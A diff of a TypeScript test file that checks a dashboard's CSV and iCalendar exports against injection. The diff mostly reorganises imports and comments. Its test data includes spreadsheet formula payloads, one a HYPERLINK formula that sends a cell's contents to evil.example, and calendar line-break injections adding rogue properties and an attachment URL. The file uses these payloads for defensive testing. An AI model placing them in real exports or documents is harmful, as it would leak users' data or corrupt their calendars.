@@ -1,19 +1,18 @@
 import { parse } from 'csv-parse/sync'
 import ICAL from 'ical.js'
 import { beforeAll, expect } from 'vitest'
-import { appointments, calls, leads } from '../../lib/db/schema/index.ts'
+import { appointments } from '../../lib/dashboard/schema/appointments.ts'
+import { calls } from '../../lib/dashboard/schema/calls.ts'
+import { leads } from '../../lib/dashboard/schema/leads.ts'
 import { within } from '../e2e/account/rows.ts'
-import { check } from '../support/defences/check.ts'
-import { content } from './defences/content.ts'
+import { check } from '../support/check.ts'
 import { adminOf } from './support/member.ts'
 
-/*
- * Whoever calls, or writes to a company, has their words in files that others open: in a spreadsheet, and in a calendar.
- */
+/* Callers and customers put text into files that others open in spreadsheets and calendars. */
 
 const ORGANIZATION = 'org_exports'
 
-/** What a spreadsheet would calculate, ask another server for, or take for the end of a cell or a line. */
+/** Cells that a spreadsheet would evaluate, fetch, or take for the end of a cell or a line. */
 const FORMULAS = [
   '=1+1',
   '=HYPERLINK("https://evil.example/?"&A1,"Click")',
@@ -73,10 +72,8 @@ beforeAll(async () => {
   })
 })
 
-/** Whether a spreadsheet would take the text of a cell for a formula. */
 const isFormula = (cell: string): boolean => /^[=+\-@\t\r\n＝＋－＠]/.test(cell)
 
-/** The rows of a file as a parser reads them, each with as many cells as there are columns. */
 async function rowsOf(path: string): Promise<string[][]> {
   const response = await ask(path)
   expect(response.status).toBe(200)
@@ -88,7 +85,6 @@ check(
     what: 'Exports: leads and calls as CSV',
     tried: `${FORMULAS.length} formulas and quotes in every text, opened by a parser`,
     expected: 'no cell begins as a formula, none is lost, numbers as they are dialled',
-    without: content.formulas,
   },
   async () => {
     for (const text of FORMULAS) {
@@ -107,7 +103,7 @@ check(
   },
 )
 
-/** Ends a line, or what it belongs to, in a file of a calendar. */
+/** Ends a line or a component in an iCalendar file. */
 const INJECTED = [
   'x\r\nX-EVIL:1',
   'x\nATTACH:https://evil.example/',
@@ -121,7 +117,6 @@ const INJECTED = [
   `${'x'.repeat(62)}\r\n X-EVIL:1`,
 ]
 
-/** What the site writes into an entry. */
 const OWN =
   'created description dtend dtstamp dtstart last-modified location sequence status summary transp uid url'.split(' ')
 
@@ -130,7 +125,6 @@ check(
     what: 'Exports: the calendar feed',
     tried: `${INJECTED.length} ends of lines in its name and in each text of a visit, read by a parser`,
     expected: 'as many entries as visits, no other property or component',
-    without: content.calendar,
   },
   async () => {
     const problems: string[] = []
